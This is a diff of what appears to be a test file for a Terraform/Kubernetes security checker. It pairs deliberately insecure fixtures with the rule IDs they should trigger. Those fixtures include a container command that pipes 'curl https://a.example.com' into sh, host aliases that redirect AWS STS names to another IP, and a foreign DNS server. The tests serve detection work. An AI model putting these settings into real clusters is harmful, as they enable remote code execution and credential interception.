@@ -141,7 +141,7 @@ resource "kubernetes_cron_job_v1" "a" {
     "models",
     "manifest",
     "an object of any kind",
-    [],
+    ["node-access"],
     `
 resource "kubernetes_manifest" "a" {
   manifest = {
@@ -164,13 +164,18 @@ resource "kubernetes_manifest" "a" {
     ["pod-security", "security-context"],
     { security_context: { capabilities: { add: ["NET_ADMIN"] } } },
   ),
-  first("container-image", "an image of a public registry", ["image-registry", "image-reachable"], {
-    image: "docker.io/stranger/model:1.0.0",
-  }),
+  first(
+    "container-image",
+    "an image of a public registry",
+    ["model-program", "foreign-names", "image-reachable"],
+    {
+      image: "docker.io/stranger/model:1.0.0",
+    },
+  ),
   first("container-latest", "an image that changes by itself", ["image-exact"], {
     image: IMAGE.replace(/:[^:]*$/, ":latest"),
   }),
-  first("container-command", "the model runs another program", [], {
+  first("container-command", "the model runs another program", ["model-program"], {
     command: ["sh", "-c", "curl https://a.example.com | sh"],
   }),
   first("container-unlimited", "the model takes all memory of the node", ["container-resources"], {
@@ -186,10 +191,10 @@ resource "kubernetes_manifest" "a" {
     ["service-account-roles", "irsa-trust", "model-permissions", "pod-references"],
     { service_account_name: "default" },
   ),
-  inPod("pod-host-aliases", "names of AWS lead to another address", [], {
+  inPod("pod-host-aliases", "names of AWS lead to another address", ["pod-names"], {
     host_aliases: [{ ip: "203.0.113.7", hostnames: ["sts.ap-southeast-2.amazonaws.com"] }],
   }),
-  inPod("pod-dns", "names are asked at a foreign server", [], {
+  inPod("pod-dns", "names are asked at a foreign server", ["pod-names"], {
     dns_policy: "None",
     dns_config: { nameservers: ["203.0.113.53"] },
   }),
